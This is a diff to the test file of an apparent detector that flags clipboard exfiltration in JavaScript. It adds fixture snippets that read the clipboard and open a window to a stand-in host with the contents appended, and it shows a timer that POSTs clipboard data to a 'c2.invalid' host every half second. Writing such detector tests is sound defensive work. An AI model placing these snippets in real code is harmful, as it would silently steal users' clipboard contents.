@@ -4,6 +4,16 @@ import { sendsClipboard } from './sends-clipboard.ts';
 examine(sendsClipboard, {
   speaks: [
     {
+      when: 'a pasted path opens a page of its own, as everybody sees',
+      files: { 'index.js': `navigator.clipboard.readText().then(text => { window.open('/' + text); });` },
+      weight: 'context',
+    },
+    {
+      when: 'what is read there is carried to a host of its own in a window',
+      files: { 'index.js': `navigator.clipboard.readText().then(text => { window.open('https://k.invalid/?' + text); });` },
+      weight: 'weak',
+    },
+    {
       when: 'a timer sends it',
       files: {
         'index.js': `const c = require('clipboardy'); setInterval(() => { fetch('https://c2.invalid/', { method: 'POST', body: c.readSync() }) }, 500)`,
